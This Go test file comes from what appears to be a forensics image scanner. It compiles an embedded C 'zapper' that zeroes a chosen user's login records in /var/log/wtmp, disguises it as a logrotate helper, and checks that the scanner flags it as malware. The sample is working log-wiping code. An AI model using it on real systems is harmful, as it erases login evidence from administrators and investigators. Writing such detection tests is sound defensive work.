package standard_test

import (
	"crypto/md5"
	"encoding/hex"
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"github.com/strata-forensics/strata/audit"
	"github.com/strata-forensics/strata/audit/standard"
	"github.com/strata-forensics/strata/forensics/imagebuild"
)

// zapper is our own login record editor: it zeroes a user's records in wtmp in place.
const zapper = `#include <fcntl.h>
#include <string.h>
#include <unistd.h>
#include <utmp.h>
int main(int argc, char **argv) {
	struct utmp u, z;
	const char *file = argc > 2 ? argv[2] : "/var/log/wtmp";
	int fd = open(file, O_RDWR);
	memset(&z, 0, sizeof z);
	while (fd >= 0 && read(fd, &u, sizeof u) == sizeof u) {
		if (argc > 1 && strncmp(u.ut_user, argv[1], sizeof u.ut_user) == 0) {
			lseek(fd, -(off_t)sizeof u, SEEK_CUR);
			write(fd, &z, sizeof z);
		}
	}
	return 0;
}
`

// TestLoginRecordEditor: a compiled program naming the login records that no package of the
// image ships is a login record editor, STRATA-AF-001 high labelled malware, static and
// stripped or not; the same program a package ships unchanged, or in an image with no package
// database to tell, raises nothing.
func TestLoginRecordEditor(t *testing.T) {
	if _, err := exec.LookPath("gcc"); err != nil {
		t.Skip("gcc is not installed")
	}
	dir := t.TempDir()
	src := filepath.Join(dir, "z.c")
	if err := os.WriteFile(src, []byte(zapper), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"-O2"}, {"-O2", "-static", "-s"}} {
		out := filepath.Join(dir, "z")
		if b, err := exec.Command("gcc", append(args, "-o", out, src)...).CombinedOutput(); err != nil {
			t.Skipf("cannot build the sample: %v\n%s", err, b)
		}
		bin, err := os.ReadFile(out)
		if err != nil {
			t.Fatal(err)
		}
		const binPath = "usr/sbin/logrotate-helper"
		sum := md5.Sum(bin)
		status := imagebuild.Reg("var/lib/dpkg/status", "Package: rotatetools\nStatus: install ok installed\nPriority: optional\nSection: admin\n"+
			"Maintainer: Strata Test <test@example.org>\nArchitecture: amd64\nVersion: 1.0-1\nDescription: tools\n\n")
		for _, tc := range []struct {
			name  string
			files []imagebuild.File
			want  bool
		}{
			{"unowned", []imagebuild.File{status, imagebuild.Reg("var/lib/dpkg/info/rotatetools.list", "/usr/share/doc/rotatetools\n")}, true},
			{"shipped", []imagebuild.File{status, imagebuild.Reg("var/lib/dpkg/info/rotatetools.list", "/"+binPath+"\n"),
				imagebuild.Reg("var/lib/dpkg/info/rotatetools.md5sums", hex.EncodeToString(sum[:])+"  "+binPath+"\n")}, false},
			{"no database", nil, false},
		} {
			t.Run(tc.name+"/"+args[len(args)-1], func(t *testing.T) {
				files := append(tc.files, imagebuild.Reg(binPath, string(bin)).WithMode(0o755))
				res := scanImageWith(t, imagebuild.Image{Layers: []imagebuild.Layer{{Files: files}}}, standard.Options{Packages: true, TempDir: t.TempDir()})
				found := false
				for _, f := range res.Findings {
					if f.Path != "/"+binPath || f.Rule != "STRATA-AF-001" {
						continue
					}
					if f.Severity != audit.High || !f.Is(audit.CategoryMalware) {
						t.Errorf("%s %s: %s", f.Severity, f.Rule, f.Title)
					}
					found = true
				}
				if found != tc.want {
					t.Errorf("found %v, want %v", found, tc.want)
				}
			})
		}
	}
}
